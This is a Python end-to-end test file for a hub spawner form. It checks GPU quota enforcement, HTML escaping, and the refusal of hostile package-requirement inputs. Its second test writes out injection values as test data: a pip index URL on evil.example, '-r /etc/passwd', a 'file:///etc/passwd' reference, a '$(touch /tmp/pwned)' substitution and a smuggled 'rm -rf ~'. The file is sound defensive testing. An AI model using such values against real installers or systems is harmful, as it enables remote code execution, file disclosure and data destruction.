"""The options form of a real hub, built from the cluster and the quota, refusing what the quota does not allow."""

from __future__ import annotations

import requests

from tests.e2e.conftest import Api, ServiceProcess
from tests.hub.conftest import SpawnerHub


def _login(hub: SpawnerHub, name: str) -> requests.Session:
    s = requests.Session()
    s.get(f"{hub.url}/hub/login", timeout=10)
    r = s.post(f"{hub.url}/hub/login", data={"username": name, "password": "x", "_xsrf": s.cookies.get("_xsrf")},
               timeout=10)
    assert r.status_code == 200, r.text[:500]
    return s


def test_the_form_shows_the_quota_and_refuses_what_it_does_not_allow(spawner_hub: SpawnerHub,
                                                                     tacc_service: ServiceProcess) -> None:
    hub = spawner_hub
    admin = Api(tacc_service.url, tacc_service.token("root", admin=True))
    status, _ = admin.call("PUT", "/api/admin/quotas/user/bob", {"max_gpus": 1, "gpu_hours": 3})
    assert status == 200
    try:
        s = _login(hub, "bob")
        page = s.get(f"{hub.url}/hub/spawn", timeout=30).text
        assert "user bob may hold at most 1 GPU" in page and "user bob has 3.0 GPU-hours left" in page, page
        assert "One GPU &lt;b&gt;" in page and "One GPU <b>" not in page  # profile names are escaped
        assert 'name="gpus"' in page and 'max="1"' in page
        xsrf = s.cookies.get("_xsrf")
        r = s.post(f"{hub.url}/hub/spawn", data={"_xsrf": xsrf, "profile": "cpu", "gpus": "2", "time_limit": "1h"},
                   timeout=30)
        assert "over quota: needs 2 GPUs; user bob may hold at most 1 (1 over)" in r.text, r.text[-3000:]
        r = s.post(f"{hub.url}/hub/spawn", data={"_xsrf": xsrf, "profile": "cpu", "gpus": "1", "time_limit": "4h"},
                   timeout=30)
        assert "over quota: needs 4.0 GPU-hours (1 GPUs x 4 h); user bob has 3.0 GPU-hours left" in r.text, \
            r.text[-3000:]
        r = s.post(f"{hub.url}/hub/spawn", data={"_xsrf": xsrf, "profile": "cpu", "gpus": "0",
                                                 "requirements": "numpy"}, timeout=30)
        assert "is not pinned" in r.text, r.text[-3000:]  # the service's own check, through its dry run
        # Through the REST API (no form): start() checks the same and the spawn fails with the message.
        r = hub.api.post(f"{hub.url}/hub/api/users/bob/server", json={"gpus": 2}, timeout=30)
        assert r.status_code == 202, r.text
        events = hub.progress("bob")
        assert events[-1].get("failed") and "user bob may hold at most 1 (1 over)" in events[-1]["message"], events
        _, tasks = Api(tacc_service.url, tacc_service.token("bob")).call("GET", "/api/tasks")
        assert tasks["tasks"] == [], tasks  # nothing was queued
    finally:
        admin.call("DELETE", "/api/admin/quotas/user/bob")


def test_hostile_extra_packages_are_refused_with_a_clear_message(spawner_hub: SpawnerHub,
                                                                 tacc_service: ServiceProcess) -> None:
    hub = spawner_hub
    s = _login(hub, "bob")
    xsrf = s.cookies.get("_xsrf")
    for field, message in (
            ("--index-url=http://evil.example/simple", "pip options are not allowed"),
            ("termcolor==3.3.0\n-r /etc/passwd", "requirements, line 2: &#39;-r /etc/passwd&#39;: pip options"),
            ("x @ file:///etc/passwd", "come from the package index: write NAME==VERSION"),
            ("termcolor==3.3.0 $(touch /tmp/pwned)", "is not pinned"),
            ("jupyterlab==0.1; rm -rf ~ @ x", "no URL or path")):
        r = s.post(f"{hub.url}/hub/spawn", data={"_xsrf": xsrf, "profile": "cpu", "requirements": field}, timeout=30)
        assert message in r.text, (field, r.text[-3000:])
    # Through the REST API (no form): refused before anything is queued, with the same words.
    r = hub.api.post(f"{hub.url}/hub/api/users/bob/server", json={"requirements": ["a==1", "--pre"]}, timeout=30)
    assert r.status_code == 400 and "requirements, line 2: '--pre': pip options are not allowed" in r.json()["message"]
    r = hub.api.post(f"{hub.url}/hub/api/users/bob/server", json={"requirements": {"a": 1}}, timeout=30)
    assert r.status_code == 400 and "give packages as NAME==VERSION" in r.json()["message"], r.text
    _, tasks = Api(tacc_service.url, tacc_service.token("bob")).call("GET", "/api/tasks")
    assert tasks["tasks"] == [], tasks
